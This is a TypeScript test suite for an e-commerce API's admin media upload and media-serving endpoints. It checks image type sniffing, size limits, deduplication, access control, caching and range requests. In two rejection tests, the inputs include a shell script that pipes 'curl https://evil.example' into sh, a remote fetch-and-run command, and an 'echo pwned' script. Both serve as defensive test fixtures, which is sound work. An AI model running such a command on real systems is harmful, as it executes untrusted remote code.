import { and, eq } from "drizzle-orm";
import { beforeAll, describe, expect, it } from "vitest";
import { createApp } from "../workers/api/app.ts";
import { adminMediaRouter, mediaRouter } from "../workers/api/media/media.index.ts";
import { requireAdmin } from "../workers/api/middleware/auth.ts";
import { mountOpenApi } from "../workers/api/openapi.ts";
import { auditLog, media, products, users } from "../workers/db/schema.ts";
import { newId } from "../workers/domain/ids.ts";
import { sniffImage } from "../workers/media/sniff.ts";
import { env, PASSWORD, post, registerShopper, type Session } from "./accounts-helpers.ts";
import { callWith, problemOf, withDb } from "./helpers.ts";

/** The media routers wired as the Worker wires them: one admin guard in front of /v1/admin/*. */
const app = createApp((root) => {
	root.use("/v1/admin/*", requireAdmin());
	root.route("/v1", mediaRouter);
	root.route("/v1", adminMediaRouter);
	mountOpenApi(root);
});

/** The suite's scratch database on a real server, rather than the embedded one. */

const send = (path: string, init: RequestInit = {}, overrides: Partial<Env> = {}) => callWith(app, path, init, overrides);

interface MediaBody {
	id: string;
	product_id: string;
	key: string;
	url: string;
	content_type: string;
	bytes: number;
	alt: string;
	position: number;
}

async function newProduct(): Promise<string> {
	const id = newId("prod");
	await withDb((db) =>
		db.primary.insert(products).values({ id, slug: `media-test-${id.slice(5)}`, title: "Media test product", status: "active" }),
	);
	return id;
}

async function makeAdmin(): Promise<Session> {
	const session = await registerShopper();
	await withDb((db) => db.primary.update(users).set({ role: "admin" }).where(eq(users.id, session.user.id)));
	const res = await post("/v1/auth/login", { email: session.user.email, password: PASSWORD });
	if (res.status !== 200) throw new Error(`login answered ${res.status}`);
	return (await res.json()) as Session;
}

// ---- image bytes, built here so the test depends on nothing ----

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
	let c = n;
	for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
	return c >>> 0;
});

function crc32(bytes: Uint8Array): number {
	let crc = 0xffffffff;
	for (const byte of bytes) crc = (CRC_TABLE[(crc ^ byte) & 0xff] as number) ^ (crc >>> 8);
	return (crc ^ 0xffffffff) >>> 0;
}

const u32 = (n: number) => [(n >>> 24) & 0xff, (n >>> 16) & 0xff, (n >>> 8) & 0xff, n & 0xff];
const ascii = (text: string) => [...text].map((ch) => ch.charCodeAt(0));

function chunk(type: string, data: number[]): number[] {
	const body = new Uint8Array([...ascii(type), ...data]);
	return [...u32(data.length), ...body, ...u32(crc32(body))];
}

/** A valid 1×1 RGB PNG: the pixel is stored in an uncompressed deflate block, so no zlib is needed. */
function tinyPng(rgb: [number, number, number] = [200, 30, 60]): Uint8Array {
	const raw = [0, ...rgb]; // filter byte "none", then one pixel
	let a = 1;
	let b = 0;
	for (const byte of raw) {
		a = (a + byte) % 65521;
		b = (b + a) % 65521;
	}
	const zlib = [0x78, 0x01, 0x01, raw.length, 0, ~raw.length & 0xff, 0xff, ...raw, ...u32(((b << 16) | a) >>> 0)];
	return new Uint8Array([
		0x89,
		0x50,
		0x4e,
		0x47,
		0x0d,
		0x0a,
		0x1a,
		0x0a,
		...chunk("IHDR", [...u32(1), ...u32(1), 8, 2, 0, 0, 0]),
		...chunk("IDAT", zlib),
		...chunk("IEND", []),
	]);
}

/** Bytes that no other test uploads: content-addressed keys would otherwise be shared. */
function unique(bytes: Uint8Array): Uint8Array {
	return new Uint8Array([...bytes, ...crypto.getRandomValues(new Uint8Array(16))]);
}

const JPEG = new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, ...ascii("JFIF"), 0, 1, 1, 0, 0, 1, 0, 1, 0, 0, 0xff, 0xd9]);
const WEBP = new Uint8Array([
	...ascii("RIFF"),
	26,
	0,
	0,
	0,
	...ascii("WEBPVP8L"),
	13,
	0,
	0,
	0,
	0x2f,
	0,
	0,
	0,
	0x10,
	0x07,
	0x10,
	0x11,
	0x11,
	0x88,
	0x88,
	0xfe,
	0x07,
	0,
]);
const ftyp = (major: string, compatible: string[]) => {
	const size = 16 + 4 * compatible.length;
	return new Uint8Array([
		...u32(size),
		...ascii("ftyp"),
		...ascii(major),
		0,
		0,
		0,
		0,
		...compatible.flatMap(ascii),
		...u32(8),
		...ascii("meta"),
	]);
};
const AVIF = ftyp("avif", ["mif1", "miaf", "MA1B"]);
const GIF = new Uint8Array([
	...ascii("GIF89a"),
	1,
	0,
	1,
	0,
	0x80,
	0,
	0,
	0,
	0,
	0,
	255,
	255,
	255,
	0x2c,
	0,
	0,
	0,
	0,
	1,
	0,
	1,
	0,
	0,
	2,
	2,
	0x44,
	1,
	0,
	0x3b,
]);

function uploadInit(
	token: string,
	file: { bytes: Uint8Array; name: string; type?: string } | undefined,
	fields: Record<string, string> = {},
) {
	const form = new FormData();
	if (file) form.append("file", new File([file.bytes], file.name, { type: file.type ?? "application/octet-stream" }));
	for (const [name, value] of Object.entries(fields)) form.append(name, value);
	return { method: "POST", headers: { authorization: `Bearer ${token}` }, body: form };
}

const upload = (token: string, productId: string, file: { bytes: Uint8Array; name: string; type?: string } | undefined, fields = {}) =>
	send(`/v1/admin/products/${productId}/media`, uploadInit(token, file, fields));

let admin: Session;
beforeAll(async () => {
	admin = await makeAdmin();
});

describe("sniffImage", () => {
	it("recognises the four image types from their bytes, AVIF also by a compatible brand", () => {
		expect(sniffImage(tinyPng())).toEqual({ contentType: "image/png", extension: "png" });
		expect(sniffImage(JPEG)).toEqual({ contentType: "image/jpeg", extension: "jpg" });
		expect(sniffImage(WEBP)).toEqual({ contentType: "image/webp", extension: "webp" });
		expect(sniffImage(AVIF)).toEqual({ contentType: "image/avif", extension: "avif" });
		expect(sniffImage(ftyp("mif1", ["avis"]))?.extension).toBe("avif");
	});

	it("rejects look-alikes: HEIC and MP4 share AVIF's container, GIF and text are not accepted", () => {
		expect(sniffImage(ftyp("heic", ["mif1", "heic"]))).toBeUndefined();
		expect(sniffImage(ftyp("isom", ["mp41"]))).toBeUndefined();
		expect(sniffImage(GIF)).toBeUndefined();
		expect(sniffImage(new TextEncoder().encode("#!/bin/sh\necho pwned\n"))).toBeUndefined();
		expect(sniffImage(new Uint8Array([0xff, 0xd8]))).toBeUndefined();
		expect(sniffImage(new Uint8Array())).toBeUndefined();
	});
});

describe("POST /v1/admin/products/{id}/media", () => {
	it("stores a PNG in R2 under its hash, records the row and its audit entry, and bumps the catalog version", async () => {
		const productId = await newProduct();
		const bytes = unique(tinyPng());
		const versionBefore = await env.CATALOG.get("catalog:version");
		const res = await upload(
			admin.access_token,
			productId,
			{ bytes, name: "photo.png", type: "image/png" },
			{ alt: "A red dot", position: "3" },
		);
		expect(res.status).toBe(201);
		const body = (await res.json()) as MediaBody;
		const hash = [...new Uint8Array(await crypto.subtle.digest("SHA-256", bytes))].map((b) => b.toString(16).padStart(2, "0")).join("");
		expect(body).toMatchObject({
			product_id: productId,
			key: `media/${hash}.png`,
			url: `/v1/media/media/${hash}.png`,
			content_type: "image/png",
			bytes: bytes.byteLength,
			alt: "A red dot",
			position: 3,
		});
		expect(body.id).toMatch(/^med_/);

		const stored = await env.MEDIA.head(body.key);
		expect(stored?.size).toBe(bytes.byteLength);
		expect(stored?.httpMetadata).toMatchObject({ contentType: "image/png", cacheControl: "public, max-age=31536000, immutable" });
		expect(await env.CATALOG.get("catalog:version")).not.toBe(versionBefore);

		const [row, audit] = await withDb(async (db) => [
			(await db.primary.select().from(media).where(eq(media.id, body.id)))[0],
			await db.primary
				.select()
				.from(auditLog)
				.where(and(eq(auditLog.entityType, "media"), eq(auditLog.entityId, body.id))),
		]);
		expect(row).toMatchObject({ productId, key: body.key, contentType: "image/png", alt: "A red dot", position: 3 });
		expect(audit).toHaveLength(1);
		expect(audit[0]).toMatchObject({ action: "media.create", actorId: admin.user.id, before: null });
	});

	it("accepts JPEG, WebP and AVIF whatever name and declared type they come with, appending positions", async () => {
		const productId = await newProduct();
		const cases = [
			{ bytes: unique(JPEG), name: "camera.bin", type: "application/octet-stream", contentType: "image/jpeg", ext: "jpg" },
			{ bytes: unique(WEBP), name: "image.png", type: "image/png", contentType: "image/webp", ext: "webp" },
			{ bytes: unique(AVIF), name: "x", type: "text/plain", contentType: "image/avif", ext: "avif" },
		];
		const positions: number[] = [];
		for (const file of cases) {
			const res = await upload(admin.access_token, productId, file);
			expect(res.status).toBe(201);
			const body = (await res.json()) as MediaBody;
			expect(body.content_type).toBe(file.contentType);
			expect(body.key.endsWith(`.${file.ext}`)).toBe(true);
			expect(body.alt).toBe("");
			positions.push(body.position);
		}
		expect(positions).toEqual([0, 1, 2]);
	});

	it("returns the existing item for the same bytes on the same product, and a new row sharing the key on another", async () => {
		const [first, second] = [await newProduct(), await newProduct()];
		const file = { bytes: unique(tinyPng([1, 2, 3])), name: "a.png" };
		const created = (await (await upload(admin.access_token, first, file)).json()) as MediaBody;
		const again = await upload(admin.access_token, first, { ...file, name: "renamed.png" }, { alt: "ignored" });
		expect(again.status).toBe(200);
		expect(await again.json()).toEqual(created);

		const other = await upload(admin.access_token, second, file);
		expect(other.status).toBe(201);
		const otherBody = (await other.json()) as MediaBody;
		expect(otherBody.key).toBe(created.key);
		expect(otherBody.id).not.toBe(created.id);
		const rows = await withDb((db) => db.primary.select().from(media).where(eq(media.key, created.key)));
		expect(rows.map((r) => r.productId).sort()).toEqual([first, second].sort());
	});

	it("attaches the same bytes once when they are uploaded concurrently", async () => {
		const productId = await newProduct();
		const file = { bytes: unique(WEBP), name: "same.webp" };
		const answers = await Promise.all(Array.from({ length: 4 }, () => upload(admin.access_token, productId, file)));
		expect(answers.map((res) => res.status).sort()).toEqual([200, 200, 200, 201]);
		const ids = new Set(await Promise.all(answers.map(async (res) => ((await res.json()) as MediaBody).id)));
		expect(ids.size).toBe(1);
		const rows = await withDb((db) => db.primary.select().from(media).where(eq(media.productId, productId)));
		expect(rows).toHaveLength(1);
	});

	it("refuses a script named evil.jpg declared as image/jpeg with 415, and stores nothing", async () => {
		const productId = await newProduct();
		const script = new TextEncoder().encode("#!/bin/sh\ncurl https://evil.example | sh\n");
		const res = await upload(admin.access_token, productId, { bytes: script, name: "evil.jpg", type: "image/jpeg" });
		expect(res.status).toBe(415);
		expect((await problemOf(res)).code).toBe("unsupported_media_type");
		const rows = await withDb((db) => db.primary.select().from(media).where(eq(media.productId, productId)));
		expect(rows).toEqual([]);
	});

	it("refuses a GIF with 415", async () => {
		const res = await upload(admin.access_token, await newProduct(), { bytes: GIF, name: "anim.gif", type: "image/gif" });
		expect(res.status).toBe(415);
		expect((await problemOf(res)).code).toBe("unsupported_media_type");
	});

	it("refuses a body declared over MEDIA_MAX_BYTES with 413 before reading it", async () => {
		const productId = await newProduct();
		const big = new Uint8Array(4096);
		big.set(tinyPng());
		// Serialise the form first so the request carries a Content-Length, as a browser's would.
		const form = new Request("https://form.test", uploadInit(admin.access_token, { bytes: big, name: "big.png" }));
		const bytes = new Uint8Array(await form.arrayBuffer());
		let pulled = 0;
		const body = new ReadableStream<Uint8Array>(
			{
				pull(controller) {
					pulled += 1;
					controller.enqueue(bytes);
					controller.close();
				},
				// Nothing is pulled until someone reads.
			},
			{ highWaterMark: 0 },
		);
		const res = await send(
			`/v1/admin/products/${productId}/media`,
			{
				method: "POST",
				headers: {
					authorization: `Bearer ${admin.access_token}`,
					"content-type": form.headers.get("content-type") ?? "",
					"content-length": String(bytes.byteLength),
				},
				body,
			},
			{ MEDIA_MAX_BYTES: "1024" },
		);
		expect(res.status).toBe(413);
		expect((await problemOf(res)).code).toBe("payload_too_large");
		expect(pulled).toBe(0);
	});

	it("refuses an endless chunked body with 413 once it passes the cap, without reading the rest", async () => {
		const productId = await newProduct();
		let pulled = 0;
		const endless = new ReadableStream<Uint8Array>({
			pull(controller) {
				pulled += 1;
				controller.enqueue(new Uint8Array(512));
			},
		});
		const res = await send(
			`/v1/admin/products/${productId}/media`,
			{
				method: "POST",
				headers: { authorization: `Bearer ${admin.access_token}`, "content-type": "multipart/form-data; boundary=x" },
				body: endless,
			},
			{ MEDIA_MAX_BYTES: "4096" },
		);
		expect(res.status).toBe(413);
		expect((await problemOf(res)).code).toBe("payload_too_large");
		expect(pulled).toBeLessThan(20);
	});

	it("accepts a body under a raised cap and above the global 1 MiB limit", async () => {
		const big = new Uint8Array(1024 * 1024 + 10);
		big.set(JPEG);
		big.set(crypto.getRandomValues(new Uint8Array(32)), JPEG.length);
		const res = await upload(admin.access_token, await newProduct(), { bytes: big, name: "large.jpg" });
		expect(res.status).toBe(201);
		expect(((await res.json()) as MediaBody).bytes).toBe(big.byteLength);
	});

	it("answers 415 to a body that is not multipart, and 400 to a form without a file or with bad fields", async () => {
		const productId = await newProduct();
		const path = `/v1/admin/products/${productId}/media`;
		const auth = { authorization: `Bearer ${admin.access_token}` };
		const json = await send(path, { method: "POST", headers: { ...auth, "content-type": "application/json" }, body: "{}" });
		expect(json.status).toBe(415);
		expect((await problemOf(json)).code).toBe("unsupported_media_type");
		const raw = await send(path, { method: "POST", headers: { ...auth, "content-type": "image/png" }, body: tinyPng() });
		expect(raw.status).toBe(415);

		const noFile = await upload(admin.access_token, productId, undefined, { alt: "nothing" });
		expect(noFile.status).toBe(400);
		const noFileProblem = await problemOf(noFile);
		expect(noFileProblem.code).toBe("validation_failed");
		expect(noFileProblem.errors).toEqual([{ path: "body.file", message: expect.any(String) }]);

		const longAlt = await upload(admin.access_token, productId, { bytes: tinyPng(), name: "a.png" }, { alt: "x".repeat(301) });
		expect(longAlt.status).toBe(400);
		expect(((await problemOf(longAlt)).errors as { path: string }[]).map((e) => e.path)).toEqual(["body.alt"]);

		const badPosition = await upload(admin.access_token, productId, { bytes: tinyPng(), name: "a.png" }, { position: "-1" });
		expect(badPosition.status).toBe(400);
		const extra = await upload(admin.access_token, productId, { bytes: tinyPng(), name: "a.png" }, { product_id: "prod_other" });
		expect(extra.status).toBe(400);

		const rows = await withDb((db) => db.primary.select().from(media).where(eq(media.productId, productId)));
		expect(rows).toEqual([]);
	});

	it("answers 404 for an unknown product", async () => {
		const res = await upload(admin.access_token, "prod_doesnotexist000000", { bytes: tinyPng(), name: "a.png" });
		expect(res.status).toBe(404);
		expect((await problemOf(res)).code).toBe("not_found");
	});

	it("refuses customers with 403 and anonymous callers with 401", async () => {
		const productId = await newProduct();
		const customer = await registerShopper();
		const res = await upload(customer.access_token, productId, { bytes: tinyPng(), name: "a.png" });
		expect(res.status).toBe(403);
		expect((await problemOf(res)).code).toBe("forbidden");
		const form = new FormData();
		form.append("file", new File([tinyPng()], "a.png"));
		const anonymous = await send(`/v1/admin/products/${productId}/media`, { method: "POST", body: form });
		expect(anonymous.status).toBe(401);
	});
});

describe("GET /v1/media/{key}", () => {
	let bytes: Uint8Array;
	let key: string;
	let etag: string;

	beforeAll(async () => {
		bytes = unique(tinyPng([10, 200, 90]));
		const res = await upload(admin.access_token, await newProduct(), { bytes, name: "dot.png" });
		key = ((await res.json()) as MediaBody).key;
		etag = (await env.MEDIA.head(key))?.httpEtag ?? "";
	});

	it("serves the same bytes with ETag, immutable caching and Accept-Ranges", async () => {
		const res = await send(`/v1/media/${key}`);
		expect(res.status).toBe(200);
		expect(new Uint8Array(await res.arrayBuffer())).toEqual(bytes);
		expect(res.headers.get("etag")).toBe(etag);
		expect(etag).not.toBe("");
		expect(res.headers.get("cache-control")).toBe("public, max-age=31536000, immutable");
		expect(res.headers.get("accept-ranges")).toBe("bytes");
		expect(res.headers.get("content-type")).toBe("image/png");
	});

	it("accepts the key's slash percent-encoded, as generated clients send it", async () => {
		const res = await send(`/v1/media/${encodeURIComponent(key)}`);
		expect(res.status).toBe(200);
		expect(new Uint8Array(await res.arrayBuffer())).toEqual(bytes);
	});

	it("answers HEAD with the headers and no body", async () => {
		const res = await send(`/v1/media/${key}`, { method: "HEAD" });
		expect(res.status).toBe(200);
		expect(res.headers.get("etag")).toBe(etag);
		expect(res.headers.get("content-length")).toBe(String(bytes.byteLength));
		expect(await res.text()).toBe("");
	});

	it("answers If-None-Match with the current ETag with 304", async () => {
		const res = await send(`/v1/media/${key}`, { headers: { "if-none-match": etag } });
		expect(res.status).toBe(304);
		expect(res.headers.get("etag")).toBe(etag);
		expect(res.headers.get("cache-control")).toBe("public, max-age=31536000, immutable");
		const other = await send(`/v1/media/${key}`, { headers: { "if-none-match": '"something-else"' } });
		expect(other.status).toBe(200);
		expect(new Uint8Array(await other.arrayBuffer())).toEqual(bytes);
	});

	it("serves exactly bytes 2..5 for Range: bytes=2-5", async () => {
		const res = await send(`/v1/media/${key}`, { headers: { range: "bytes=2-5" } });
		expect(res.status).toBe(206);
		expect(res.headers.get("content-range")).toBe(`bytes 2-5/${bytes.byteLength}`);
		expect(res.headers.get("content-length")).toBe("4");
		expect(res.headers.get("etag")).toBe(etag);
		expect(new Uint8Array(await res.arrayBuffer())).toEqual(bytes.slice(2, 6));
	});

	it("serves suffix and open-ended ranges, clamping an end past the file", async () => {
		const size = bytes.byteLength;
		const suffix = await send(`/v1/media/${key}`, { headers: { range: "bytes=-7" } });
		expect(suffix.status).toBe(206);
		expect(suffix.headers.get("content-range")).toBe(`bytes ${size - 7}-${size - 1}/${size}`);
		expect(new Uint8Array(await suffix.arrayBuffer())).toEqual(bytes.slice(size - 7));

		const open = await send(`/v1/media/${key}`, { headers: { range: "bytes=10-" } });
		expect(open.status).toBe(206);
		expect(new Uint8Array(await open.arrayBuffer())).toEqual(bytes.slice(10));

		const past = await send(`/v1/media/${key}`, { headers: { range: `bytes=${size - 3}-${size + 100}` } });
		expect(past.headers.get("content-range")).toBe(`bytes ${size - 3}-${size - 1}/${size}`);
		expect(new Uint8Array(await past.arrayBuffer())).toEqual(bytes.slice(size - 3));
	});

	it("answers an unsatisfiable range with 416 and the size in Content-Range", async () => {
		const res = await send(`/v1/media/${key}`, { headers: { range: `bytes=${bytes.byteLength}-` } });
		expect(res.status).toBe(416);
		expect(res.headers.get("content-range")).toBe(`bytes */${bytes.byteLength}`);
		expect((await problemOf(res)).code).toBe("range_not_satisfiable");
		expect((await send(`/v1/media/${key}`, { headers: { range: "bytes=-0" } })).status).toBe(416);
	});

	it("ignores a range it does not serve (several ranges, another unit) and sends the whole file", async () => {
		for (const range of ["bytes=0-1,4-5", "items=0-1"]) {
			const res = await send(`/v1/media/${key}`, { headers: { range } });
			expect(res.status).toBe(200);
			expect(new Uint8Array(await res.arrayBuffer())).toEqual(bytes);
		}
	});

	it("answers 404 for a well-formed key that is not stored, and 400 for a malformed one", async () => {
		const missing = await send(`/v1/media/media/${"0".repeat(64)}.png`);
		expect(missing.status).toBe(404);
		expect((await problemOf(missing)).code).toBe("not_found");
		for (const bad of [
			"/v1/media/foo",
			"/v1/media/media/abc.png",
			`/v1/media/media/${"a".repeat(64)}.gif`,
			`/v1/media/other/${"a".repeat(64)}.png`,
		]) {
			const res = await send(bad);
			expect(res.status, bad).toBe(400);
			expect((await problemOf(res)).code).toBe("validation_failed");
		}
	});

	it("is documented as /v1/media/{key} (GET and HEAD) next to the multipart upload", async () => {
		const doc = (await (await send("/openapi.json")).json()) as {
			paths: Record<string, Record<string, { requestBody?: { content: object } }>>;
		};
		expect(Object.keys(doc.paths["/v1/media/{key}"] ?? {}).sort()).toEqual(["get", "head"]);
		expect(Object.keys(doc.paths).some((path) => path.includes("{key{"))).toBe(false);
		expect(Object.keys(doc.paths["/v1/admin/products/{id}/media"]?.post?.requestBody?.content ?? {})).toEqual(["multipart/form-data"]);
	});
});
